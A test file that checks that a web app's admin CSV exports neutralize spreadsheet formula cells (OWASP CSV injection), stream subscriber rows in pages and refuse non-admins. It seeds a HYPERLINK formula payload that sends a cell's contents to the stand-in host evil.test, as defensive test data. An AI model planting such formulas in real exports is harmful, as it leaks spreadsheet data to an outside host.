import { beforeAll, describe, expect, it, vi } from 'vitest';
import { jar } from './setup';

// The real export route handlers against the Auth emulator and PGlite; only Next's request APIs are stubbed.
vi.mock('next/headers', () => import('./setup').then((m) => m.nextHeaders));
vi.mock('next/cache', () => import('./setup').then((m) => m.nextCache));

const { NextRequest } = await import('next/server');
const { adminAuth } = await import('@/lib/auth/firebase-admin');
const { signSession } = await import('@/lib/auth/session');
const { db } = await import('@/lib/db');
const schema = await import('@/lib/compose/all-tables');
const { createCampaign, formatCode } = await import('@/lib/campaigns');
const purchasesRoute = await import('@/app/api/admin/purchases/route');
const subscribersRoute = await import('@/app/api/admin/subscribers/route');
const campaignRoute = await import('@/app/api/admin/campaigns/[id]/route');

/** What a spreadsheet would run as a formula (OWASP CSV injection): each starting character. */
const DANGEROUS = ['=', '+', '-', '@', '\t', '\r'];
const payload = (c: string, i: number) => `${c}HYPERLINK("http://evil.test/?x="&A1;"click")${i}`;
const stamp = Date.now();
let campaignId: string;

/** RFC 4180 reader (quoted cells, doubled quotes, CR/LF inside quotes). */
function parse(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\n' || (ch === '\r' && text[i + 1] === '\n')) {
      if (ch === '\r') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += ch;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

async function csvOf(response: Response): Promise<string[][]> {
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toContain('text/csv');
  const rows = parse(await response.text());
  for (const row of rows) expect(row.length).toBe(rows[0]!.length);
  return rows;
}

/** No cell of the file begins with a character that makes a spreadsheet evaluate it. */
function expectNoFormula(rows: string[][]) {
  for (const row of rows)
    for (const cell of row) if (!/^-?\d+(\.\d+)?$/.test(cell)) expect(DANGEROUS.includes(cell.charAt(0)), `cell ${JSON.stringify(cell)}`).toBe(false);
}

beforeAll(async () => {
  const auth = adminAuth();
  const admin = await auth.createUser({ email: `csv-admin-${stamp}@example.test` });
  await auth.setCustomUserClaims(admin.uid, { admin: true });
  jar.cookie = await signSession({ uid: admin.uid, email: admin.email!, admin: true }, [process.env.SESSION_SECRET!]);
  const d = await db();
  await d.insert(schema.purchases).values(
    DANGEROUS.map((c, i) => ({
      store: 'play-store' as const,
      transactionId: payload(c, i),
      uid: `${c}uid-${stamp}-${i}`,
      product: `${c}product`,
      priceMicros: -1_500_000 * (i + 1),
      currency: 'EUR',
      status: 'refunded' as const,
      purchasedAt: new Date(Date.UTC(2026, 0, 1 + i)),
    })),
  );
  await d.insert(schema.subscriptions).values(
    DANGEROUS.map((c, i) => ({
      email: `${c}sum(1+1)-${stamp}-${i}@example.test`,
      locale: 'en-US',
      status: 'active' as const,
      unsubscribeTokenHash: `csv-test-${stamp}-${i}`,
    })),
  );
  campaignId = (await createCampaign(d, { name: 'CSV', grantDays: 7, validFrom: new Date(), validUntil: new Date(Date.now() + 86_400_000), count: 1 })).campaign
    .id;
  await d.insert(schema.codes).values(DANGEROUS.map((c, i) => ({ code: payload(c, i), campaignId })));
});

describe('CSV exports neutralize formula cells (OWASP CSV injection)', () => {
  it('purchases: the text survives, prefixed with an apostrophe; negative prices stay numbers', async () => {
    const rows = await csvOf(await purchasesRoute.GET(new NextRequest('http://localhost/api/admin/purchases?status=refunded')));
    expectNoFormula(rows);
    const [header, ...body] = rows;
    const tx = body.map((r) => r[header!.indexOf('transaction_id')]);
    for (const [i, c] of DANGEROUS.entries()) expect(tx).toContain(`'${payload(c, i)}`);
    expect(body.map((r) => r[header!.indexOf('product')])).toContain("'=product");
    expect(body.map((r) => r[header!.indexOf('price')])).toContain('-1.50');
  });

  it('subscribers: addresses that start with a formula character are neutralized', async () => {
    const rows = await csvOf(await subscribersRoute.GET(new NextRequest('http://localhost/api/admin/subscribers?status=active')));
    expectNoFormula(rows);
    const emails = rows.slice(1).map((r) => r[0]);
    for (const [i, c] of DANGEROUS.entries()) expect(emails).toContain(`'${c}sum(1+1)-${stamp}-${i}@example.test`);
  });

  it('codes: a stored code that starts with a formula character is neutralized', async () => {
    const rows = await csvOf(
      await campaignRoute.GET(new Request(`http://localhost/api/admin/campaigns/${campaignId}`), { params: Promise.resolve({ id: campaignId }) }),
    );
    expectNoFormula(rows);
    const cells = rows.slice(1).map((r) => r[0]);
    // formatCode's groups of four drop a carriage return; every other start survives, neutralized.
    for (const [i, c] of DANGEROUS.entries()) if (c !== '\r') expect(cells).toContain(`'${formatCode(payload(c, i))}`);
  });
});

describe('the subscribers export is streamed', () => {
  it('sends every matching subscriber in pages (more rows than one page), newest first, filters applied', async () => {
    const d = await db();
    const many = Array.from({ length: 2_345 }, (_, i) => ({
      email: `bulk-${stamp}-${String(i).padStart(5, '0')}@example.test`,
      locale: 'pl-PL',
      status: 'pending' as const,
      unsubscribeTokenHash: `bulk-${stamp}-${i}`,
      createdAt: new Date(Date.UTC(2025, 0, 1, 0, 0, i)),
    }));
    await d.insert(schema.subscriptions).values(many);
    const response = await subscribersRoute.GET(new NextRequest('http://localhost/api/admin/subscribers?status=pending&locale=pl-PL'));
    const rows = await csvOf(response);
    expect(rows[0]).toEqual(['email', 'locale', 'status', 'created_at', 'confirmed_at']);
    expect(rows.length - 1).toBe(many.length);
    expect(rows[1]![0]).toBe(many.at(-1)!.email);
    expect(rows.at(-1)![0]).toBe(many[0]!.email);
    expect(new Set(rows.slice(1).map((r) => r[0])).size).toBe(many.length);
    // The rows come from the database page by page (keyset), never as one array.
    const { subscriberPages } = await import('@/lib/newsletter/queries');
    const sizes: number[] = [];
    for await (const page of subscriberPages(d, { status: 'pending', locale: 'pl-PL' }, 1000)) sizes.push(page.length);
    expect(sizes).toEqual([1000, 1000, 345]);
  });

  it('answers 400 to a filter value that does not exist, empty values mean all', async () => {
    expect((await subscribersRoute.GET(new NextRequest('http://localhost/api/admin/subscribers?status=%00'))).status).toBe(400);
    expect((await subscribersRoute.GET(new NextRequest('http://localhost/api/admin/subscribers?locale=xx'))).status).toBe(400);
    const all = await csvOf(await subscribersRoute.GET(new NextRequest('http://localhost/api/admin/subscribers?status=&locale=')));
    expect(all.length - 1).toBeGreaterThan(2_345);
  });

  it('refuses a non-admin with 403', async () => {
    const saved = jar.cookie;
    jar.cookie = undefined;
    try {
      expect((await subscribersRoute.GET(new NextRequest('http://localhost/api/admin/subscribers'))).status).toBe(403);
    } finally {
      jar.cookie = saved;
    }
  });
});
